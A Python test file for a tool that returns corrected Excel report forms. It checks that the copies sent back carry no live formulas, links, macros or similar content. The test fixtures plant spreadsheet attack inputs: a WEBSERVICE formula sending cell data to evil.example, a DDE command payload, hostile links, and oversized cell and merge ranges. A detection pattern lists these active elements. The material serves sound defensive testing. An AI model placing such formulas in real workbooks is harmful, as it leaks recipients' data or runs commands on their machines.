"""The copies that go back.

Nothing of the sender's lives in them, and nothing that somebody wrote is missing from them.
"""

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from excel import FIRST_ROW, cell_at, change, fill, letter_of
from openpyxl import load_workbook
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from ttdn.forms.inert import Note
from ttdn.forms.marks import own_words

Run = Callable[..., tuple[int, str, str]]

UNIT, PLACE = "phuong-loc-tho", ("Kết quả", f"{letter_of('results', 'status')}{FIRST_ROW}")
STATUS = cell_at("results", "II.5.1", "status")
#: What begins to live in a workbook, as it stands in its XML.
ALIVE = re.compile(
    r"<f[ "
    r">/]|externalLink|oleObject|vbaProject|conditionalFormatting|connection|WEBSERVICE|DDE|TargetMode=\"External\"|<control|queryTable|evil"
)


@pytest.fixture
def wrong(root: Path, run: Run) -> Path:
    """A form with one mistake."""
    assert run("form", UNIT, "--period", "2020", "-o", "bm", cwd=root)[0] == 0
    return fill(root, root / "bm" / f"{UNIT}-2020.xlsx", {STATUS: "xong hết"}, root / "về" / "a.xlsx")


@pytest.fixture
def give_back(root: Path, run: Run) -> Callable[[Path], Path]:
    """Collect a form that is wrong; the copy that goes back."""

    def collect(path: Path) -> Path:
        code, out, err = run("collect", str(path), "--received", "2020-12-05", cwd=root, columns=400)
        assert (code, err) == (1, ""), out
        made = [
            one
            for one in (root / "out" / "tra-lai" / "phuong-loc-tho").iterdir()
            if one.suffix == ".xlsx" and "can-sua" in one.name
        ]
        assert len(made) == 1, out
        return made[0]

    return collect


def markup_of(path: Path) -> str:
    """All the XML of a workbook but the words of its cells and notes."""
    with zipfile.ZipFile(path) as package:
        return re.sub(
            r"<t[^>]*>[^<]*</t>", "", "".join(package.read(name).decode() for name in package.namelist())
        )


def enliven(book: Any) -> None:  # noqa: ANN401 - the library's types are loose
    """Put into a form what a sender may: by intent, or by working on as one does in Excel."""
    page = book["Kết quả"]
    page["S3"] = '=WEBSERVICE("http://evil.example/"&A1)'
    page["S4"] = "=cmd|'/c calc'!A0"
    page["S5"] = "bấm vào đây"
    page["S5"].hyperlink = "https://evil.example/x"
    page["S6"].comment = Comment("Hỏi: ghi gì ở đây?", "evil <author>")
    page.conditional_formatting.add("S7", FormulaRule(formula=['WEBSERVICE("http://evil.example")=1']))  # type: ignore[no-untyped-call] # the library has no types
    page.add_data_validation(
        DataValidation("custom", formula1='WEBSERVICE("http://evil.example")=1', sqref="S8")
    )
    book.defined_names["evil"] = DefinedName("evil", attr_text="'Kết quả'!$A$1")
    book.create_sheet("Ghi chú của phường")["A1"] = "=1+1"


def test_nothing_of_the_senders_lives_in_the_copy(wrong: Path, give_back: Callable[[Path], Path]) -> None:
    """Formulas, links, names, rules, formats and authors are gone; what they said stands there as text."""
    change(wrong, enliven)
    assert ALIVE.search(markup_of(wrong))
    made = give_back(wrong)
    text = markup_of(made)
    assert [text[match.start() - 60 : match.end() + 40] for match in ALIVE.finditer(text)] == []
    page = load_workbook(made)["Kết quả"]
    assert page["S3"].value == '=WEBSERVICE("http://evil.example/"&A1)'
    assert (page["S3"].data_type, page["S5"].value, page["S5"].hyperlink) == ("s", "bấm vào đây", None)
    assert "Hỏi: ghi gì ở đây?" in page["S6"].comment.text
    assert "evil" not in (page["S6"].comment.author or "")


def test_receipt_carries_nothing_alive(root: Path, wrong: Path, run: Run) -> None:
    """The same of a form that is taken, with its receipt as a sheet."""
    right = fill(root, wrong, {STATUS: "Đang thực hiện"})
    change(right, lambda book: book["Kết quả"]["S3"].__setattr__("hyperlink", "https://evil.example/x"))
    run("collect", str(right), "--received", "2020-12-05", "--receipt", cwd=root)
    made = list((root / "out" / "tra-lai" / "phuong-loc-tho").glob("*.xlsx"))
    assert len(made) == 1
    assert ALIVE.search(markup_of(made[0])) is None


def test_officers_note_stays_below_ours(
    root: Path, wrong: Path, give_back: Callable[[Path], Path], run: Run
) -> None:
    """A note in the cell that is wrong is kept, to and fro, and once."""
    sheet, cell = PLACE
    change(
        wrong, lambda book: book[sheet][cell].__setattr__("comment", Comment("Phường hỏi:\nchọn gì?", "An"))
    )
    for _ in range(2):
        made = give_back(wrong)
        text = load_workbook(made)[sheet][cell].comment.text
        assert text.count("Phường hỏi:\nchọn gì?") == 1
        assert text.index("xong hết") < text.index("Phường hỏi")
        wrong.write_bytes(made.read_bytes())
        made.unlink()
    right = fill(root, wrong, {STATUS: "Đang thực hiện"})
    run("collect", str(right), "--received", "2020-12-05", "--receipt", cwd=root)
    made = root / "out" / "tra-lai" / "phuong-loc-tho" / "a.bien-nhan.xlsx"
    assert load_workbook(made)[sheet][cell].comment.text == "Phường hỏi:\nchọn gì?"


def test_box_of_a_note_grows_with_its_words(wrong: Path, give_back: Callable[[Path], Path]) -> None:
    """All of a long note can be read: about 42 letters stand in a line of the box."""
    sheet, cell = PLACE
    note: Any = Comment("chọn gì? " * 60, "An")
    change(wrong, lambda book: book[sheet][cell].__setattr__("comment", note))
    made = give_back(wrong)
    lines = sum(-(-len(line) // 42) for line in load_workbook(made)[sheet][cell].comment.text.split("\n"))
    assert lines > 12
    assert max(float(height) for height in re.findall(r"height: ?([0-9.]+)px", markup_of(made))) >= 20 * lines


@pytest.mark.parametrize(
    ("author", "text", "own"),
    [
        ("An", "chọn gì?", "chọn gì?"),
        ("ttdn", "Cần sửa (ttdn):\nsai", ""),
        ("ttdn", "sai, như bản cũ viết", ""),
        ("", "Cần sửa (ttdn):\nsai\nGhi chú của cán bộ:\nchọn gì?", "chọn gì?"),
    ],
)
def test_whose_words_a_note_holds(author: str, text: str, own: str) -> None:
    """Of a note of ours only the officer's part counts, also where another program forgot the author."""
    assert own_words(Note(author, text)) == own


def test_link_to_a_sheet_with_a_strange_name(wrong: Path, give_back: Callable[[Path], Path]) -> None:
    """Whatever a sheet is called, what leads to it leads into this workbook."""
    change(wrong, lambda book: book.create_sheet("x'!A1 & y").__setitem__("A1", "chữ"))
    book = load_workbook(give_back(wrong))
    links: list[Any] = [
        cell.hyperlink
        for row in book["Cần sửa"].iter_rows()
        for cell in row
        if getattr(cell, "hyperlink", None)
    ]
    assert links
    assert all(link.target is None and link.location for link in links)


@pytest.mark.parametrize("place", ["XFD1048576", "A1048576"])
def test_far_cell_costs_nothing(wrong: Path, give_back: Callable[[Path], Path], place: str) -> None:
    """A space typed at the end of the world (Ctrl + Down) makes no copy of a million rows."""
    change(wrong, lambda book: book["Kết quả"].__setitem__(place, " "))
    assert give_back(wrong).stat().st_size < 200_000


def test_everything_joined_costs_nothing(wrong: Path, give_back: Callable[[Path], Path]) -> None:
    """All cells of a sheet joined to one are no cells to go through."""
    change(wrong, lambda _: None)  # a library keeps the words in the sheets
    with zipfile.ZipFile(io.BytesIO(wrong.read_bytes())) as old:
        members = {name: old.read(name) for name in old.namelist()}
    name = next(
        name
        for name, text in members.items()
        if "worksheets/sheet" in name and b"TIN CHUNG" in text and b"</sheetProtection>" not in text
    )
    members[name] = re.sub(
        rb"(<sheetProtection[^>]*/>)",
        rb'\1<mergeCells><mergeCell ref="A900:XFD1048576"/></mergeCells>',
        members[name],
    )
    with zipfile.ZipFile(wrong, "w") as new:
        for member, content in members.items():
            new.writestr(member, content)
    assert give_back(wrong).stat().st_size < 200_000
